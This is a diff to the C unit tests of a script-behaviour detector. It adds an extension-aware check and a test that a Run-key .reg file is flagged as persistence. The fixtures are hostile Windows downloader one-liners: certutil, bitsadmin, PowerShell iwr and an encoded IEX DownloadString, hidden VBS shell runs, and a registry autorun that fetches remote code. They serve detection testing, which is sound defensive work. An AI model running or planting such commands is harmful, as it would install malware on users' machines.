@@ -20,7 +20,7 @@ struct seen {
 };
 
 static struct seen
-look(struct sk_span bytes, enum sk_type type)
+look_named(struct sk_span bytes, enum sk_type type, const char *extension)
 {
 	struct sk_arena *arena = sk_arena_new(1 << 26);
 	struct sk_budget budget = sk_budget_default();
@@ -33,6 +33,9 @@ look(struct sk_span bytes, enum sk_type type)
 	size_t index, n = 0;
 
 	assert_int_equal(sk_record_object(u.record, 0, SK_SPAN("1"), &index), 0);
+	if (extension[0] != '\0')
+		assert_int_equal(sk_record_text(u.record, 1, SK_KEY_NAME_EXTENSION,
+		    sk_span_text(extension)), 0);
 	sk_observe_script.look(&l);
 	for (const struct sk_observation *o = sk_record_find(u.record, 1, SK_KEY_SCRIPT_DOES);
 	    o != NULL; o = sk_record_next(u.record, o))
@@ -44,6 +47,12 @@ look(struct sk_span bytes, enum sk_type type)
 	    SK_FMT(sk_record_get(u.record, 1, SK_KEY_SCRIPT_LANGUAGE)));
 	sk_arena_free(arena);
 	return s;
+}
+
+static struct seen
+look(struct sk_span bytes, enum sk_type type)
+{
+	return look_named(bytes, type, "");
 }
 
 #define JS SK_TYPE_SCRIPT_JS
@@ -69,6 +78,11 @@ static const struct {
 	  "fetch run hide", true, false },
 	{ BAT, "@echo off\r\ncertutil -urlcache -f http://192.0.2.1/a a.tmp\r\nstart a.tmp\r\n",
 	  "fetch run write", true, false },
+	{ BAT, "powershell -c iwr http://192.0.2.1/a -OutFile a.tmp & a.tmp", "fetch run", true, false },
+	{ BAT, "rem iwr and iex are words of another shell\r\necho iwr\r\n", "", false, false },
+	{ VBS, "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden iwr http://192.0.2.1/a -o a\", 0\n",
+	  "fetch run object hide", true, false },
+	{ VBS, "iwr = 1\nMsgBox iwr\n", "", false, false },
 	{ BAT, "bitsadmin /transfer a http://192.0.2.1/a %TEMP%\\a.tmp & start %TEMP%\\a.tmp",
 	  "fetch run", true, false },
 	{ VBS, "Set s = GetObject(\"new:72C24DD5-D70A-438B-8A42-98424B88AFB8\")\n"
@@ -102,7 +116,7 @@ static const struct {
 	/* powershell -enc of: IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a'), UTF-16 */
 	{ BAT, "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE"
 	  "AG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
-	  "fetch run object", true, false },
+	  "fetch run eval object", true, false },
 	/* kept in variables and lists, added up later */
 	{ JS, "var q=[\"WSc\",\"rip\",\"t.S\",\"hell\",\"MSX\",\"ML2\",\".XM\",\"LHT\",\"TP\"];"
 	  "var s=new ActiveXObject(q[0]+q[1]+q[2]+q[3]);var x=new ActiveXObject(q[4]+q[5]+q[6]+q[7]+q[8]);"
@@ -174,6 +188,28 @@ does(void **state)
 	}
 }
 
+/* Text that is no script for the typer, under names that run and that do not. */
+static void
+by_name(void **state)
+{
+	static const char run[] = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\"
+	    "Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"u\"=\"powershell -c "
+	    "iex((new-object net.webclient).downloadstring('http://192.0.2.1/'))\"\r\n";
+	static const char proxy[] = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\"
+	    "Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings]\r\n"
+	    "\"ProxyEnable\"=dword:00000001\r\n\"ProxyServer\"=\"proxy.example.co.jp:8080\"\r\n";
+	struct seen s = look_named(sk_span_text(run), SK_TYPE_TEXT, "reg");
+
+	(void)state;
+	assert_true(s.downloader);
+	assert_string_equal(s.language, "");
+	assert_non_null(strstr(s.does, "persist"));
+	s = look_named(sk_span_text(proxy), SK_TYPE_TEXT, "reg");
+	assert_string_equal(s.does, "");
+	s = look_named(sk_span_text(run), SK_TYPE_TEXT, "txt");
+	assert_string_equal(s.does, "");
+}
+
 /* Two hundred pieces of a word, as generators write them. */
 static void
 pieces(void **state)
@@ -241,7 +277,7 @@ int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(does), cmocka_unit_test(pieces), cmocka_unit_test(wide),
+		cmocka_unit_test(does), cmocka_unit_test(by_name), cmocka_unit_test(pieces), cmocka_unit_test(wide),
 		cmocka_unit_test(hostile),
 	};
 
